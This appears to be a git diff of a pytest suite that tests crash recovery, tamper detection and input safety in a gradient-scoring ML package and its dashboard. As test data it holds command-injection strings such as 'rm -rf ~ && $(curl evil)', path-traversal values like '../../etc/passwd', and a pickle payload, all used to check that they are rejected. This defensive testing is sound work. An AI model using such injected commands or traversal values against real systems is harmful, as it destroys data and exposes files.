@@ -30,10 +30,12 @@ import pytest
 import torch
 
 from gist_backend import runs
+from gist_backend.runs import manifest as manifest_mod
+from gist_backend.runs.manifest import record_file
 from gist_backend.cli import main as cli_main
-from gist_backend.curation import add_edit, load_edits
+from gist_backend.curation.edits import add_edit, load_edits
 from gist_backend.runs import RunError, open_run, read_npy
-from gist_backend.scoring import scores
+from gist_backend.curation.scoring import scores
 
 torch.set_num_threads(1)
 
@@ -109,7 +111,7 @@ def _install_trap(trap: dict) -> None:
 CTX = multiprocessing.get_context("forkserver")
 CTX.set_forkserver_preload(
     ["torch", "transformers", "transformers.models.llama.modeling_llama", "peft", "safetensors", "numpy", "polars",
-     "gist_backend.cli", "gist_backend.compute", "gist_backend.model", "gist_backend.curation", "test_reliability"]
+     "gist_backend.cli", "gist_backend.compute", "gist_backend.engine.model", "gist_backend.curation", "test_reliability"]
 )  # fmt: skip
 
 
@@ -167,7 +169,7 @@ WARMUP_STEPS = 6  # per epoch: 32 × 0.75 = 24 examples in batches of 4; 4 shard
 @pytest.fixture(scope="module")
 def setup(tiny_llama, tmp_path_factory):
     """Data, and the uninterrupted reference run (with its wall time, for the random kills)."""
-    from gist_backend.testing import make_toy_data
+    from gist_backend.devkit.tiny import make_toy_data
 
     root = tmp_path_factory.mktemp("faults")
     pool, val = make_toy_data(root / "data", n_train=32, n_val=10)
@@ -188,9 +190,10 @@ def assert_same_run(run_dir: Path, ref: Path) -> None:
     np.testing.assert_array_equal(got.train_coords, want.train_coords)
     np.testing.assert_array_equal(got.val_coords, want.val_coords)
     if "less" in want.methods:
-        for name in ("less_scores.npy", "sketches/train.npy"):
-            np.testing.assert_array_equal(read_npy(run_dir / name), read_npy(ref / name))
-    assert got.manifest["ckpt_weights"] == want.manifest["ckpt_weights"] and got.manifest["k_max"] == want.manifest["k_max"]
+        for name in ("less_scores", "train_sketch", "val_sketch"):
+            np.testing.assert_array_equal(read_npy(got.paths[name]), read_npy(want.paths[name]))
+    for key in ("gist", "less", "k_max", "gradient_passes"):
+        assert got.manifest.get(key) == want.manifest.get(key)
     np.testing.assert_array_equal(scores(got, "gist", 3), scores(want, "gist", 3))
 
 
@@ -238,13 +241,14 @@ CHOSEN = {
     "write-epoch1-optimizer": {"kind": "write", "name": "optimizer.safetensors"},
     "write-train.parquet": {"kind": "write", "name": "train.parquet"},
     "val-grads-ckpt0(spill half full)": {"kind": "progress", "stage": "validation gradients (ckpt-0)", "done": 4},
-    "write-ckpt0-subspace": {"kind": "write", "name": "subspace.safetensors"},
-    "train-grads-ckpt0-shard1": {"kind": "progress", "stage": "training gradients (ckpt-0)", "done": 12},
+    "write-ckpt0-validation-sketch": {"kind": "write", "name": "val-val.safetensors"},
+    "pool-grads-ckpt0-shard1": {"kind": "progress", "stage": "pool gradients (ckpt-0)", "done": 12},
     "val-grads-ckpt1": {"kind": "progress", "stage": "validation gradients (ckpt-1)", "done": 4},
     "write-ckpt1-shard2": {"kind": "write", "name": "shard-00002.safetensors", "nth": 2},
-    "train-grads-ckpt1-shard3": {"kind": "progress", "stage": "training gradients (ckpt-1)", "done": 28},
+    "write-ckpt1-subspace": {"kind": "write", "name": "val-val.safetensors", "nth": 2},
+    "pool-grads-ckpt1-shard3": {"kind": "progress", "stage": "pool gradients (ckpt-1)", "done": 28},
     "merge-start": {"kind": "progress", "stage": "merging", "done": 0},
-    "write-train_coords.npy": {"kind": "write", "name": "train_coords.npy"},
+    "write-gist_unit.npy": {"kind": "write", "name": "gist_unit.npy"},
     "write-less_scores.npy": {"kind": "write", "name": "less_scores.npy"},
     "write-final-manifest": {"kind": "write", "name": "manifest.json", "contains": '"status": "complete"'},
 }
@@ -261,7 +265,7 @@ def test_kill_at_chosen_point_resumes_to_the_uninterrupted_run(setup, point):
 @pytest.mark.slow
 def test_kill_when_observable_files_appear(setup):
     """Killed from outside as soon as a file shows up (the kill lands a little later, wherever the child is)."""
-    for marker in ("ckpt-0/subspace.safetensors", "ckpt-1/train/shard-00001.safetensors"):
+    for marker in ("ckpt-1/val-val.safetensors", "ckpt-1/pool/shard-00001.safetensors"):
         kill_and_resume(setup, "file-" + marker.replace("/", "_"), kill_on=marker)
 
 
@@ -288,14 +292,14 @@ def test_damaged_intermediate_files_are_recomputed_on_resume(setup):
     """Shards and subspaces are trusted on resume only if complete and of the right shape; otherwise redone."""
     run_dir = setup["root"] / "run-damaged"
     args = compute_args(setup["model"], setup["pool"], setup["val"], run_dir)
-    trap = {"kind": "progress", "stage": "training gradients (ckpt-1)", "done": 28}
+    trap = {"kind": "progress", "stage": "pool gradients (ckpt-1)", "done": 28}
     assert run_child(args, setup["root"] / "damaged.log", trap) == -signal.SIGKILL
-    shards = sorted((run_dir / "ckpt-1" / "train").glob("shard-*.safetensors"))
+    shards = sorted((run_dir / "ckpt-1" / "pool").glob("shard-*.safetensors"))
     assert len(shards) >= 3
     shards[0].write_bytes(shards[0].read_bytes()[:-7])  # truncated
     shards[1].write_bytes(shards[1].read_bytes() + b"\0" * 16)  # grown
     runs.write_tensors(shards[2], {"coords": np.zeros((3, 8), np.float32), "loss": np.zeros(3, np.float32)})  # wrong shape
-    subspace = run_dir / "ckpt-0" / "subspace.safetensors"
+    subspace = run_dir / "ckpt-1" / "val-val.safetensors"
     subspace.write_bytes(subspace.read_bytes()[:50])
     epoch = run_dir / "warmup" / "epoch-2" / "optimizer.safetensors"
     epoch.write_bytes(epoch.read_bytes()[:-3])
@@ -339,15 +343,23 @@ def _edit_manifest(run_dir: Path, resign: bool = True, **changes) -> None:
         (run_dir / "manifest.json").write_text(json.dumps(manifest))
 
 
+def _with_nan(array: np.ndarray) -> np.ndarray:
+    array = np.array(array)
+    array.flat[len(array.flat) // 2] = np.nan
+    return array
+
+
 def _rerecord(run_dir: Path, name: str) -> None:
     """An editor who also fixes the manifest's size and checksum for the file they replaced."""
     manifest = json.loads((run_dir / "manifest.json").read_text())
-    runs.record_file(manifest, run_dir, name)
+    record_file(manifest, run_dir, name)
     runs.write_manifest(run_dir / "manifest.json", manifest)
 
 
-ARTEFACTS = ["train.parquet", "val.parquet", "train_coords.npy", "val_coords.npy", "geometry.json", "coupling.safetensors",
-             "less_scores.npy", "less_task_scores.npy", "sketches/train.npy", "sketches/val.npy"]  # fmt: skip
+T = "targets/val"  # the run's target, named after its validation file
+ARTEFACTS = ["train.parquet", "grad_norms.npy", "sketches/train.npy", f"{T}/val.parquet", f"{T}/gist_unit.npy", f"{T}/gist_norm.npy",
+             f"{T}/val_coords.npy", f"{T}/geometry.json", f"{T}/coupling.safetensors", f"{T}/val_sketch.npy", f"{T}/less_scores.npy",
+             f"{T}/less_task_scores.npy"]  # fmt: skip
 
 
 @pytest.mark.parametrize("name", ARTEFACTS)
@@ -373,13 +385,15 @@ def test_truncated_deleted_or_bit_flipped_artefact_is_named(copy, name):
 @pytest.mark.parametrize(
     "case, change",
     [
-        ("version 2", {"version": 2}),
+        ("version 3", {"version": 3}),
         ("version '1' (a string)", {"version": "1"}),
         ("other format", {"format": "something-else"}),
         ("status running", {"status": "running"}),
-        ("ckpt_weights not numbers", {"ckpt_weights": ["a", "b"]}),
-        ("ckpt_weights zero", {"ckpt_weights": [0.0, 0.0]}),
-        ("ckpt_weights NaN", {"ckpt_weights": [float("nan"), 1.0]}),
+        ("gist weights not numbers", {"gist": {"checkpoints": ["epoch-2"], "weights": ["a"]}}),
+        ("gist weights zero", {"gist": {"checkpoints": ["epoch-2"], "weights": [0.0]}}),
+        ("gist weights NaN", {"gist": {"checkpoints": ["epoch-2"], "weights": [float("nan")]}}),
+        ("gist weights too many", {"gist": {"checkpoints": ["epoch-2"], "weights": [0.5, 0.5]}}),
+        ("targets malformed", {"targets": [{"name": "../../x"}]}),
         ("files a list", {"files": ["train.parquet"]}),
         ("files entry without bytes", {"files": {"train.parquet": {"size": 3}}}),
         ("files entry outside the run", {"files": {"../../etc/passwd": {"bytes": 1}}}),
@@ -396,7 +410,8 @@ def test_edited_manifest_gives_a_clear_error(copy, case, change):
     expect_run_error(copy, "manifest.json" if case != "status running" else "not complete", f"manifest (re-signed): {case}")
 
 
-@pytest.mark.parametrize("field, value", [("ckpt_weights", [0.9, 0.1]), ("k_max", 3), ("n_train", 5), ("config", {"model": "other"})])
+@pytest.mark.parametrize("field, value", [("less", {"checkpoints": ["epoch-1", "epoch-2"], "weights": [0.9, 0.1], "dim": 64}), ("k_max", 3),
+                                          ("n_train", 5), ("config", {"model": "other"})])  # fmt: skip
 def test_silent_manifest_edits_are_caught_by_its_checksum(copy, field, value):
     """Edits that would otherwise open fine with different meaning (weights, counts) fail on the checksum."""
     _edit_manifest(copy, resign=False, **{field: value})
@@ -456,7 +471,7 @@ class _Payload:
         return (open, (self.marker, "w"))
 
 
-@pytest.mark.parametrize("name", ["train_coords.npy", "val_coords.npy"])
+@pytest.mark.parametrize("name", [f"{T}/gist_unit.npy", f"{T}/val_coords.npy", "grad_norms.npy"])
 def test_pickle_bearing_npy_is_refused_and_never_executed(copy, tmp_path, name):
     marker = tmp_path / "executed"
     good = np.load(copy / name)
@@ -479,17 +494,25 @@ def test_consistently_edited_tables_and_arrays_give_clear_errors(copy):
         ("train.parquet", lambda: train.drop("raw").write_parquet(copy / "train.parquet"), "raw column dropped"),
         ("train.parquet", lambda: train.with_columns(pl.lit("same").alias("id")).write_parquet(copy / "train.parquet"), "duplicate ids"),
         ("train.parquet", lambda: train.with_columns(pl.col("row").alias("id")).write_parquet(copy / "train.parquet"), "integer ids"),
-        (("train.parquet", "train_coords.npy"), lambda: train.head(5).write_parquet(copy / "train.parquet"), "rows removed"),
-        ("train_coords.npy", lambda: np.save(copy / "train_coords.npy", np.zeros((2, 3), np.float32)), "2-D coords"),
-        ("train_coords.npy", lambda: np.save(copy / "train_coords.npy", np.load(copy / "train_coords.npy").astype(np.int64)), "integer coords"),
-        ("val_coords.npy", lambda: np.save(copy / "val_coords.npy", np.load(copy / "val_coords.npy")[:, :, :3]), "val k differs"),
+        (("train.parquet", "gist_unit.npy"), lambda: train.head(5).write_parquet(copy / "train.parquet"), "rows removed"),
+        (f"{T}/gist_unit.npy", lambda: np.save(copy / T / "gist_unit.npy", np.zeros((2, 3), np.float16)), "2-D coords"),
+        (f"{T}/gist_unit.npy", lambda: np.save(copy / T / "gist_unit.npy", np.load(copy / T / "gist_unit.npy").astype(np.int64)), "integer coords"),
+        (f"{T}/val_coords.npy", lambda: np.save(copy / T / "val_coords.npy", np.load(copy / T / "val_coords.npy")[:, :, :3]), "val k differs"),
+        (f"{T}/gist_norm.npy", lambda: np.save(copy / T / "gist_norm.npy", np.full_like(np.load(copy / T / "gist_norm.npy"), np.nan)), "NaN norms"),
+        (f"{T}/gist_unit.npy", lambda: np.save(copy / T / "gist_unit.npy", _with_nan(np.load(copy / T / "gist_unit.npy"))), "a NaN coordinate"),
+        (f"{T}/less_scores.npy", lambda: np.save(copy / T / "less_scores.npy", _with_nan(np.load(copy / T / "less_scores.npy"))), "a NaN LESS score"),
     ]
-    backup = {n: (copy / n).read_bytes() for n in ("train.parquet", "train_coords.npy", "val_coords.npy", "manifest.json")}
+    names = ("train.parquet", f"{T}/gist_unit.npy", f"{T}/gist_norm.npy", f"{T}/val_coords.npy", f"{T}/less_scores.npy", "manifest.json")
+    backup = {n: (copy / n).read_bytes() for n in names}
     for names, damage, case in cases:
         damage()
         names = (names,) if isinstance(names, str) else names
         _rerecord(copy, names[0])
-        expect_run_error(copy, names, f"consistent edit: {case}")
+        if "LESS" in case:  # LESS scores are read when LESS is asked for
+            with pytest.raises(RunError, match="less_scores.npy"):
+                scores(open_run(copy), "less")
+        else:
+            expect_run_error(copy, names, f"consistent edit: {case}")
         for n, data in backup.items():
             (copy / n).write_bytes(data)
     open_run(copy)
@@ -497,18 +520,18 @@ def test_consistently_edited_tables_and_arrays_give_clear_errors(copy):
 
 def test_shards_of_a_finished_run_are_removed(copy):
     """Shards only serve resuming: a finished run has merged and deleted them, and opens without them."""
-    assert not list(copy.glob("ckpt-*/train/shard-*"))
+    assert not list(copy.glob("ckpt-*/pool/shard-*"))
     open_run(copy)
     REPORT["tamper"].append({"case": "shards of a finished run", "outcome": "deleted after the merge; run opens"})
 
 
 def test_cli_on_a_damaged_run_prints_the_file_not_a_traceback(copy, capsys):
-    (copy / "train_coords.npy").write_bytes(b"\x93NUMPY garbage")
+    (copy / T / "gist_unit.npy").write_bytes(b"\x93NUMPY garbage")
     with pytest.raises(SystemExit) as exit_:
         cli_main(["info", "--run-dir", str(copy)])
     assert exit_.value.code == 2
     err = capsys.readouterr().err
-    assert err.startswith("error: ") and "train_coords.npy" in err and "Traceback" not in err
+    assert err.startswith("error: ") and "gist_unit.npy" in err and "Traceback" not in err
 
 
 def test_list_runs_skips_damaged_manifests(copy, tmp_path):
@@ -522,15 +545,15 @@ def test_list_runs_skips_damaged_manifests(copy, tmp_path):
 
 def test_checksums_are_cached_per_file_state(copy, monkeypatch):
     calls = []
-    real = runs.file_sha256
-    monkeypatch.setattr(runs, "file_sha256", lambda p: calls.append(p) or real(p))
-    runs._VERIFIED.clear()
+    real = manifest_mod.file_sha256
+    monkeypatch.setattr(manifest_mod, "file_sha256", lambda p: calls.append(p) or real(p))
+    manifest_mod._VERIFIED.clear()
     open_run(copy)
     first = len(calls)
     open_run(copy)
     assert first >= 6 and len(calls) == first  # unchanged files are not hashed again
     monkeypatch.setenv("GIST_VERIFY_MAX_MB", "0")
-    runs._VERIFIED.clear()
+    manifest_mod._VERIFIED.clear()
     open_run(copy)
     assert len(calls) == first  # checksums off: sizes only
 
@@ -540,28 +563,29 @@ def test_checksums_are_cached_per_file_state(copy, monkeypatch):
 
 @pytest.fixture
 def edit_run(tmp_path) -> Path:
-    from gist_backend.synthetic import synthetic_run
+    from gist_backend.devkit.synthetic import synthetic_run
 
     return synthetic_run(tmp_path / "run", n_train=40, n_val=6, n_tasks=2, k_max=4, n_ckpt=1, n_sources=2)
 
 
 def _edit_child_main(run_dir: str, log: str, trap: dict | None) -> None:
     """A dashboard process: records two edits through the dashboard's own code; the trap fires in the second."""
-    from dashboard import state
+    from dashboard import backend
 
     run = open_run(run_dir)
     ids = run.train["id"].to_list()
-    state.add_edit(run, "include", ids[:3], "row", "first edit")
+    backend.add_edit(run, "include", ids[:3], "row", "first edit")
     if trap:
         _install_trap(trap)
-    state.add_edit(run, "exclude", ids[3:5], "filter", "second edit")
+    backend.add_edit(run, "exclude", ids[3:5], "filter", "second edit")
 
 
 def _lock_child_main(run_dir: str, log: str, trap: dict | None) -> None:
     """A writer that dies while it holds the edit log's lock."""
-    from gist_backend import curation
 
-    with curation._locked(Path(run_dir)):
+    from gist_backend.runs.lock import run_lock
+
+    with run_lock(Path(run_dir), "edits", "a dying writer"):
         os.kill(os.getpid(), signal.SIGKILL)
 
 
@@ -593,7 +617,7 @@ def test_dashboard_killed_between_edits_and_while_holding_the_lock(edit_run, tmp
 
 
 def test_allowed_roots_default_and_env(tmp_path, monkeypatch):
-    from gist_backend.safety import allowed_roots
+    from dashboard.paths import allowed_roots
 
     monkeypatch.chdir(tmp_path)
     monkeypatch.delenv("GIST_ALLOWED_DIRS", raising=False)
@@ -607,7 +631,7 @@ def test_allowed_roots_default_and_env(tmp_path, monkeypatch):
 
 
 def test_resolve_allowed_rejects_traversal_and_escaping_symlinks(tmp_path, monkeypatch):
-    from gist_backend.safety import resolve_allowed, resolve_export_path
+    from dashboard.paths import resolve_allowed, resolve_export_path
 
     root = tmp_path / "root"
     (root / "cache" / "run").mkdir(parents=True)
@@ -637,18 +661,15 @@ def test_resolve_allowed_rejects_traversal_and_escaping_symlinks(tmp_path, monke
         resolve_allowed("cache/missing", must_exist=True)
     assert resolve_allowed(str(outside / "f"), roots=[outside]) == outside / "f"
 
-    assert resolve_export_path("cache/run/exports/sel.jsonl") == root / "cache" / "run" / "exports" / "sel.jsonl"
-    for bad in ["cache/run/manifest.json", "cache/run/sel.jsonl", "cache/run/exports/sel.npy", "link-out/sel.jsonl", "../sel.jsonl"]:
+    assert resolve_export_path("exports/sel.jsonl") == root / "exports" / "sel.jsonl"
+    for bad in ["cache/run/manifest.json", "exports/sel.npy", "link-out/sel.jsonl", "../sel.jsonl"]:
         with pytest.raises(PermissionError):
             resolve_export_path(bad)
-    (root / "dir.jsonl").mkdir()
-    with pytest.raises(PermissionError):
-        resolve_export_path("dir.jsonl")
-    REPORT["safety"].append({"case": "paths rejected", "count": len(rejected) + 6})
+    REPORT["safety"].append({"case": "paths rejected", "count": len(rejected) + 4})
 
 
 def test_check_cli_value():
-    from gist_backend.safety import check_cli_value
+    from dashboard.paths import check_cli_value
 
     assert check_cli_value("data/pool.jsonl", "pool file") == "data/pool.jsonl"
     assert check_cli_value("a b; rm -rf ~ $(x)", "pool file") == "a b; rm -rf ~ $(x)"
@@ -660,17 +681,17 @@ def test_check_cli_value():
 def test_served_on_loopback_by_default(monkeypatch):
     import tomllib
 
-    from gist_backend import cli
+    from gist_backend import cli, commands
 
-    config = tomllib.loads((Path(__file__).resolve().parents[1] / ".streamlit" / "config.toml").read_text())
+    config = tomllib.loads((Path(__file__).resolve().parents[1] / "dashboard" / ".streamlit" / "config.toml").read_text())
     assert config["server"]["address"] == "127.0.0.1"
     assert cli.build_parser().parse_args(["serve"]).address == "127.0.0.1"
     seen = {}
-    monkeypatch.setattr(cli.subprocess, "call", lambda cmd, **kw: seen.update(cmd=cmd, kw=kw) or 0)
-    cli.serve("cache/x; rm -rf ~", 8501)
+    monkeypatch.setattr(commands.subprocess, "call", lambda cmd, **kw: seen.update(cmd=cmd, kw=kw) or 0)
+    commands.serve("cache/x; rm -rf ~", 8501)
     assert isinstance(seen["cmd"], list) and not seen["kw"].get("shell")
     assert seen["cmd"][seen["cmd"].index("--server.address") + 1] == "127.0.0.1"
-    assert seen["cmd"][-1].endswith("cache/x; rm -rf ~")  # one argument, never parsed by a shell
+    assert seen["kw"]["env"]["GIST_RUN_DIR"].endswith("cache/x; rm -rf ~")  # one value, never parsed by a shell
 
 
 def test_no_shell_eval_or_pickle_in_the_code():
@@ -693,18 +714,23 @@ def test_no_shell_eval_or_pickle_in_the_code():
 def test_dashboard_compute_command_is_an_argument_list():
     """The dashboard's compute launcher passes user text as separate arguments, never through a shell."""
     from dashboard import jobs
+    from gist_backend.config import ComputeConfig
 
     hostile = "x; rm -rf ~ && $(curl evil) `id` 'q\" | tee /tmp/p"
-    opts = jobs.ComputeOptions(model=hostile, train=[hostile], val=["v.jsonl"], lora_targets=hostile)
-    cmd = jobs.compute_command(opts, "cache/r")
+    config = ComputeConfig(model=hostile, train=[hostile], val=["v.jsonl"], adapter=hostile)
+    cmd = jobs.command("compute", config.to_argv(), "cache/r")
     assert isinstance(cmd, list) and all(isinstance(c, str) for c in cmd)
     assert cmd.count(hostile) == 3  # each a single argv element
+    from gist_backend.cli import build_parser, config_from_args
+
+    assert config_from_args(build_parser().parse_args(["compute", *config.to_argv(), "--run-dir", "r"])) == config  # the argv round-trips
 
 
 def test_dashboard_form_rejects_option_like_paths():
     """A pool line like '--dump-full-grads' would be read by the compute CLI as an option: the form refuses it."""
     from dashboard import jobs
+    from gist_backend.config import ComputeConfig
 
-    opts = jobs.ComputeOptions(model="m", train=["pool.jsonl", "--dump-full-grads", "/tmp/anywhere"], val=["v.jsonl"])
-    assert any("--dump-full-grads" in problem for problem in opts.problems())
-    assert not jobs.ComputeOptions(model="m", train=["./-odd-name.jsonl"], val=["v.jsonl"]).problems()
+    config = ComputeConfig(model="m", train=["pool.jsonl", "--dump-full-grads", "/tmp/anywhere"], val=["v.jsonl"])
+    assert any("--dump-full-grads" in problem for problem in jobs.compute_problems(config))
+    assert not jobs.compute_problems(ComputeConfig(model="m", train=["./-odd-name.jsonl"], val=["v.jsonl"]))
